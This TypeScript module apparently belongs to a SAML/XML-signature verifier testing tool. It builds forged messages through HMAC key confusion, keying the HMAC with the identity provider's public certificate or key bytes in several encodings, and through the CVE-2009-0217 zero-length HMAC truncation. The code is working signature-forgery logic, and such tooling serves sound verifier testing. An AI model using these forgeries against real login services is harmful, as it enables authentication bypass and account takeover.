/** The trusted public key used as a shared secret: HMAC where a public-key signature was due (GHSA-c27r-x354-4m68). */

import { X509Certificate } from 'node:crypto';
import type { Mutation } from '../protocol/types.ts';
import { edit, editInner } from './elements.ts';
import { forgedWith } from './signatures.ts';

/** The public bytes that a confused verifier may take as the HMAC key. */
export type PublicBytes =
  'certificate-pem' | 'certificate-pem-newline' | 'certificate-der' | 'key-pem' | 'key-pem-newline' | 'key-der';

/** @param certificateBase64 the trusted certificate's DER as one base64 line */
export function publicBytes(certificateBase64: string, form: PublicBytes): Buffer {
  const der = Buffer.from(certificateBase64, 'base64');
  const key = new X509Certificate(der).publicKey;
  const lines = certificateBase64.replace(/(.{64})(?=.)/g, '$1\n');
  const certificatePem = `-----BEGIN CERTIFICATE-----\n${lines}\n-----END CERTIFICATE-----`;
  const keyPem = key.export({ type: 'spki', format: 'pem' }).toString().trimEnd();
  const forms: Record<PublicBytes, Buffer> = {
    'certificate-pem': Buffer.from(certificatePem),
    'certificate-pem-newline': Buffer.from(`${certificatePem}\n`),
    'certificate-der': der,
    'key-pem': Buffer.from(keyPem),
    'key-pem-newline': Buffer.from(`${keyPem}\n`),
    'key-der': key.export({ type: 'spki', format: 'der' }),
  };
  return forms[form];
}

const methods = {
  sha1: 'http://www.w3.org/2000/09/xmldsig#hmac-sha1',
  sha256: 'http://www.w3.org/2001/04/xmldsig-more#hmac-sha256',
};

/** Forges the victim with an HMAC keyed by bytes that anybody can read in the metadata. */
export function hmacForged(hash: keyof typeof methods, form: PublicBytes): Mutation {
  return forgedWith((facts) => ({
    signatureMethod: methods[hash],
    hmacKey: publicBytes(facts.idp.certificateBase64, form),
    keyInfo: 'none',
  }));
}

/** Forges the victim with an HMAC of which the message asks for no bit at all, so that any key fits (CVE-2009-0217). */
export function hmacOfNoLength(): Mutation {
  return {
    ...forgedWith((facts) => ({
      signatureMethod: methods.sha256,
      hmacKey: publicBytes(facts.idp.certificateBase64, 'certificate-pem'),
      keyInfo: 'none',
    })),
    afterSigning: (xml) => {
      const length = '<HMACOutputLength xmlns="http://www.w3.org/2000/09/xmldsig#">0</HMACOutputLength>';
      const asked = edit(xml, 'SignatureMethod', () => method(length));
      return editInner(asked, 'SignatureValue', () => '');
    },
  };
}

function method(content: string): string {
  return `<SignatureMethod xmlns="http://www.w3.org/2000/09/xmldsig#" Algorithm="${methods.sha256}">${content}</SignatureMethod>`;
}
